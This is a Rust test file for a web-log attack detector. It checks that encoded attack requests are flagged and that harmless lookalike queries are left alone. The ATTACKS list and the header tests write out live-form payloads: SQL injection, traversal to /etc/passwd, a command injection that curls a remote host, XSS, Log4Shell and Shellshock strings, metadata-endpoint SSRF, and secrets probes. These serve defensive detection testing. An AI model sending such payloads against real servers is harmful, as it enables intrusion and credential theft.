//! Attacks in their disguises are found, and ordinary requests that look alike are left alone.

use super::rule::{Rules, expression};
use super::*;
use crate::web::AccessReader;
use proptest::prelude::*;

/// What nginx writes of a request in `combined`: `ngx_http_log_escape`.
fn line(request: &str, status: u16, referer: &str, agent: &str) -> Vec<u8> {
    let escaped = |text: &str| {
        let mut out = String::with_capacity(text.len());
        for byte in text.bytes() {
            match byte {
                b'"' | b'\\' | ..=0x1f | 0x7f.. => out.push_str(&format!("\\x{byte:02X}")),
                byte => out.push(char::from(byte)),
            }
        }
        out
    };
    let (request, referer, agent) = (escaped(request), escaped(referer), escaped(agent));
    format!(r#"192.0.2.1 - - [28/Nov/2026:10:00:00 +0000] "{request}" {status} 5 "{referer}" "{agent}""#).into_bytes()
}

fn found_in(line: &[u8]) -> Vec<Finding> {
    judge(&AccessReader::guessing().read(line).expect("a combined line"))
}

fn found(target: &str) -> Vec<Finding> {
    found_in(&line(&format!("GET {target} HTTP/1.1"), 200, "-", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"))
}

fn families_of(findings: &[Finding]) -> Vec<Family> {
    findings.iter().map(|finding| finding.family).collect()
}

#[test]
fn every_rule_compiles_and_can_be_woken() {
    let mut count = 0;
    for set in families() {
        for rule in set.rules {
            count += 1;
            assert!(!rule.words.is_empty() && rule.words.iter().all(|word| word.to_ascii_lowercase() == **word), "{}", rule.pattern);
            let compiled = expression(&set, rule);
            assert!(compiled.is_ok(), "{}: {:?}", rule.pattern, compiled.err());
            assert!(compiled.is_ok_and(|rule| !rule.is_match(b"") && !rule.is_match(b"hello")), "{}", rule.pattern);
        }
    }
    assert_eq!(Rules::all().len(), count, "none is left out");
}

/// One attack of each kind, written here; with how each would be hidden.
const ATTACKS: &[(Family, &str)] = &[
    (Family::SqlInjection, "/item?id=1%20UNION%20SELECT%20null,version()--"),
    (Family::SqlInjection, "/item?id=1/**/uNiOn/**/SeLeCt/**/1,2"),
    (Family::SqlInjection, "/login?user=admin'--&pass=x"),
    (Family::SqlInjection, "/search?q=x%27%20OR%20%271%27%3D%271"),
    (Family::SqlInjection, "/item?id=1%2527%2520or%25201%253D1"),
    (Family::SqlInjection, "/item?id=-5+AND+SLEEP(5)"),
    (Family::SqlInjection, "/login?user[$ne]=x&pass[$ne]=y"),
    (Family::Traversal, "/static/..%2f..%2f..%2fetc/passwd"),
    (Family::Traversal, "/get?f=..%c0%af..%c0%afetc%c0%afpasswd"),
    (Family::Traversal, "/view?doc=../../../../etc/passwd%00.pdf"),
    (Family::FileInclusion, "/index.php?page=php://filter/convert.base64-encode/resource=config"),
    (Family::FileInclusion, "/index.php?page=/etc/passwd"),
    (Family::FileInclusion, "/index.php?page=http://203.0.113.9/c99.txt?"),
    (Family::CommandInjection, "/ping?host=127.0.0.1;cat%20/etc/passwd"),
    (Family::CommandInjection, "/ping?host=%24(curl%20http://203.0.113.9/x)"),
    (Family::CommandInjection, "/ping?host=x%7Cw%27h%27oami"),
    (Family::CommandInjection, "/ping?host=1%26%26ls${IFS}-la"),
    (Family::Xss, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    (Family::Xss, "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    (Family::Xss, "/p?x=%u003cscript%u003ealert(1)"),
    (Family::TemplateInjection, "/hello?who=%7B%7B7*7%7D%7D"),
    (Family::Lookup, "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D"),
    (Family::Lookup, "/?x=$%7B$%7Blower:j%7Dndi:dns://x%7D"),
    (Family::PhpInjection, "/x.php?code=phpinfo();"),
    (Family::PhpInjection, "/x.php?v=ZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsnYSddKSk7"),
    (Family::ScriptInjection, "/run?e=require('child_process').exec('id')"),
    (Family::RequestForgery, "/fetch?url=http://169.254.169.254/latest/meta-data/"),
    (Family::ProtocolInjection, "/go?to=/x%0d%0aSet-Cookie:%20a=b"),
    (Family::Webshell, "/wp-content/uploads/2026/11/c99.php"),
    (Family::SecretsProbe, "/app/.env"),
    (Family::SecretsProbe, "/.git/config"),
    (Family::SecretsProbe, "/wp-config.php.bak"),
];

#[test]
fn attacks_are_found_through_their_disguises() {
    for (family, target) in ATTACKS {
        let findings = found(target);
        assert!(families_of(&findings).contains(family), "{target}: {findings:?}");
        assert!(confidence(&findings) >= 0.6, "{target}");
    }
}

#[test]
fn what_a_finding_rests_on_can_be_pointed_at() {
    let findings = found("/item?a=1&id=1%20UNION%20SELECT%20null,2");
    let union = findings.iter().find(|finding| finding.strength == Strength::Strong).unwrap();
    assert_eq!((union.place, &"a=1&id=1%20UNION%20SELECT%20null,2"[union.span.clone()]), (Place::Query, "id=1%20UNION%20SELECT%20null,2"));
    assert_eq!(union.excerpt.as_sentence(), "union select null");
}

#[test]
fn headers_are_judged_too() {
    for (referer, agent, family) in [
        ("-", "${jndi:ldap://203.0.113.9/a}", Family::Lookup),
        ("() { :;}; /bin/bash -c 'id'", "x", Family::Lookup),
        ("http://a/?q=%27%20or%20%271%27=%271", "x", Family::SqlInjection),
        ("-", "sqlmap/1.8#stable", Family::Scanner),
        ("-", "Mozilla/5.0' or '1'='1", Family::SqlInjection),
    ] {
        let findings = found_in(&line("GET / HTTP/1.1", 200, referer, agent));
        assert_eq!(families_of(&findings).first(), Some(&family), "{referer} {agent}: {findings:?}");
    }
}

#[test]
fn a_panel_is_searched_for_only_where_it_is_not() {
    let at = |status| families_of(&found_in(&line("GET /phpmyadmin/index.php HTTP/1.1", status, "-", "x")));
    assert_eq!((at(200), at(302), at(404)), (vec![], vec![], vec![Family::PanelProbe]));
}

#[test]
fn what_is_here_or_only_missing_from_a_page_is_no_search_for_it() {
    let at = |target: &str, status| families_of(&found_in(&line(&format!("GET {target} HTTP/1.1"), status, "-", "x")));
    for (target, status) in [
        ("/manager/", 401),
        ("/wp-admin/admin-ajax.php", 400),
        ("/administrator/", 403),
        ("/index.php?title=Special%3AWhatLinksHere&target=100%2C000+ways+to+sleep%288%29&namespace=", 200),
        ("/scripts/main.ab12.js", 404),
        ("/console/logo.png", 404),
        ("/radio.php", 200),
        ("/mini.php", 200),
        ("/uploader.php", 304),
        ("/vendor/composer/autoload_classmap.php", 200),
        ("/owner/repository/src/.env", 200),
        ("/group/project/-/blob/main/.env", 200),
    ] {
        assert_eq!(at(target, status), [], "{target} {status}");
    }
    for (target, status, family) in [
        ("/manager/", 404, Family::PanelProbe),
        ("/scripts/", 404, Family::PanelProbe),
        ("/radio.php", 404, Family::Webshell),
        ("/radio.php?cmd=id", 200, Family::Webshell),
        ("/c99.php", 404, Family::Webshell),
        ("/src/.env", 404, Family::SecretsProbe),
        ("/-/.env", 404, Family::SecretsProbe),
        ("/app/src/.git/config", 404, Family::SecretsProbe),
    ] {
        assert_eq!(at(target, status).first(), Some(&family), "{target} {status}");
    }
}

/// Requests of people and programs who mean no harm, in each of the ways that look worst.
const ORDINARY: &[&str] = &[
    "/",
    "/wp-content/themes/x/style.css?ver=6.6.2",
    "/search?q=select+a+union+rep+from+the+list",
    "/index.php?route=/sql&db=sys&table=x%24user_summary&pos=0",
    "/search?q=O%27Reilly+and+Sons%27+books",
    "/search?q=rock+%27n%27+roll+or+jazz",
    "/search?q=how+do+I+drop+a+table+in+mysql%3F",
    "/search?q=SELECT+*+FROM+users+WHERE+id+%3D+1",
    "/search?q=%3Cdiv+class%3D%22x%22%3E",
    "/search?q=document.getElementById%28%27x%27%29",
    "/search?q=curl+-O+https%3A%2F%2Fa.example%2Fx+%7C+tar+xz",
    "/search?q=x%5E2+%2B+y%5E2+%3D+1+and+x+%3C+5",
    "/search?q=f(x)=(x%2B1)(x-2)",
    "/search?q=C%2B%2B+operator%3C%3C",
    "/search?q=AT%26T+R%26D",
    "/wiki/Select_(SQL)",
    "/wiki/It%27s_a_Wonderful_Life_(film)",
    "/wiki/C%2B%2B?action=edit&section=2",
    "/index.php?title=Special:Search&search=%22foo%22+or+%22bar%22&fulltext=1",
    "/login?next=https%3A%2F%2Fa.example%2Faccount%3Ftab%3D1%26sort%3Dname%26id%3D5",
    "/oauth?redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback&state=eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ",
    "/api?filter=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%7B%22c%22%3A%22x%22%7D%7D",
    "/api?filters%5Bprice%5D%5B%24gte%5D=10",
    "/api?fields=id,name,email&sort=-created",
    "/track?u=https%3A%2F%2Fa.example%2F&r=&t=Tom%20%26%20Jerry",
    "/adminer.php?username=root&db=shop&select=users&where%5B0%5D%5Bcol%5D=id&where%5B0%5D%5Bop%5D=%3D&where%5B0%5D%5Bval%5D=1",
    "/phpmyadmin/index.php?route=/sql&db=shop&table=users&sql_query=SELECT+%2A+FROM+%60users%60&pos=0",
    "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,wp-hooks&ver=6.6",
    "/session?token=c2Vzc2lvbi10b2tlbi1vZi1hLXVzZXI6MTIzNDU2Nzg5MA==",
    "/map?bbox=8.5,47.3,8.6,47.4&date=2026-11-28T10:00:00%2B01:00",
    "/ads?click=%24%7BCLICK_URL%7D&cb=%24%7BCACHEBUSTER%7D",
    "/contact?name=Conan+O%27Brien&subject=Time+%26+date",
    "/shop?category=home;garden&sort=price",
    "/user/repo/src/branch/main/.gitignore",
    "/.well-known/acme-challenge/abc",
    "/a?lang=fr&texte=l%27%C3%A9t%C3%A9+et+l%27hiver",
];

#[test]
fn ordinary_requests_are_left_alone() {
    for target in ORDINARY {
        assert_eq!(found(target), [], "{target}");
    }
}

#[test]
fn a_long_line_is_judged_in_time() {
    let begun = std::time::Instant::now();
    for part in ["' or ", "${", "select ", "$a[", "(", "{a,", "<"] {
        found(&format!("/x?y={}", part.repeat(1_000_000 / part.len())));
    }
    assert!(begun.elapsed().as_secs() < 30, "{:?}", begun.elapsed());
}

proptest! {
    #[test]
    fn any_request_is_judged_without_a_panic(target in "[ -~\\t]{0,200}", agent in proptest::collection::vec(any::<u8>(), 0..80)) {
        let access = Access { target: target.as_bytes().into(), agent: agent.into(), ..Access::default() };
        for finding in judge(&access) {
            prop_assert!(finding.excerpt.as_bytes().len() <= MAX_EXCERPT);
        }
    }

    #[test]
    fn letters_and_digits_are_never_an_attack(target in "/[a-zA-Z0-9_-]{0,40}(\\?[a-z]{1,8}=[a-zA-Z0-9_.-]{0,40}(&[a-z]{1,8}=[a-zA-Z0-9_.-]{0,40}){0,5})?") {
        prop_assert_eq!(found(&target), vec![]);
    }
}

#[test]
fn a_judge_that_remembers_clients_finds_what_one_without_memory_finds() {
    let mut judge = Judge::default();
    let agents = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/8", "sqlmap/1.7", "() { :;}; /bin/id", "Mozilla/5.0 (X11; Linux x86_64)", ""];
    for target in ["/", "/?id=1%20UNION%20SELECT%20null,version()--", "/.env"] {
        for agent in agents.iter().chain(&agents) {
            let access =
                Access { target: target.as_bytes().into(), agent: agent.as_bytes().into(), status: Some(404), ..Access::default() };
            assert_eq!(judge.judge(&access), super::judge(&access), "{target} {agent}");
        }
    }
}
